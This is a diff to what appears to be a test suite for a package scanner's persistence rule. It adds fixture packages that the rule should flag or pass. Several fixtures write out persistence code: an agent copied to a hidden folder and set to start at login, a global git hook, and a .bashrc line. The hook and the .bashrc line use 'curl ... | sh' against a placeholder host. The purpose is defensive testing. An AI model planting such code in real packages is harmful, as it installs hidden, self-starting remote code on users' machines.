@@ -191,6 +191,47 @@ examine(persists, {
       },
       weight: 'weak',
     },
+    {
+      when: 'a file of the package is put into a hidden folder and set to start at login, by whatever strategy',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const strategies = { darwin(agent) { fs.writeFileSync(path.join(os.homedir(), 'Library', 'LaunchAgents', 'a.plist'), '<string>' + agent + '</string>'); }, linux(agent) { fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'a.service'), '[Service]\\nExecStart=' + process.execPath + ' ' + agent); } }; exports.Rotator = class { constructor() { const agent = path.join(os.homedir(), '.cache', 'rotate', 'agent.js'); fs.copyFileSync(path.join(__dirname, 'agent.js'), agent); strategies[process.platform](agent); } };`,
+        'agent.js': `console.log('INERT')`,
+      },
+      weight: 'strong',
+      says: ['a hidden folder'],
+    },
+    {
+      when: 'hooks of all repositories fetch and run something, when somebody starts it',
+      files: {
+        'package.json': { name: 'hooks', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path'); const { execFileSync } = require('child_process'); const dir = path.join(os.homedir(), '.config', 'tidy', 'hooks'); fs.writeFileSync(path.join(dir, 'post-commit'), '#!/bin/sh\\n(curl -fsSL https://hooks.specimen.invalid/a | sh -s INERT &)\\n'); execFileSync('git', ['config', '--global', 'core.hooksPath', dir]);`,
+      },
+      weight: 'strong',
+      says: ['every Git repository'],
+    },
+    {
+      when: 'a start-up file of the shell does so',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.setUp = () => fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -fsSL https://hooks.specimen.invalid/a | sh\\n');`,
+      },
+      weight: 'strong',
+      says: ['whatever a server gives'],
+    },
+    {
+      when: 'a program is set to start at login that its user names',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.enable = program => { fs.copyFileSync(path.join(__dirname, 'icon.png'), path.join(os.homedir(), '.icons', 'a.png')); fs.writeFileSync(path.join(os.homedir(), '.config', 'systemd', 'user', 'a.service'), '[Service]\\nExecStart=' + program); };`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'hooks of all repositories run those of the project, when somebody starts it',
+      files: {
+        'package.json': { name: 'hooks', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path'); const { execFileSync } = require('child_process'); const dir = path.join(os.homedir(), '.config', 'tidy', 'hooks'); fs.writeFileSync(path.join(dir, 'post-commit'), '#!/bin/sh\\nexec npx lint-staged\\n'); execFileSync('git', ['config', '--global', 'core.hooksPath', dir]);`,
+      },
+      weight: 'weak',
+    },
   ],
   silent: [
     {
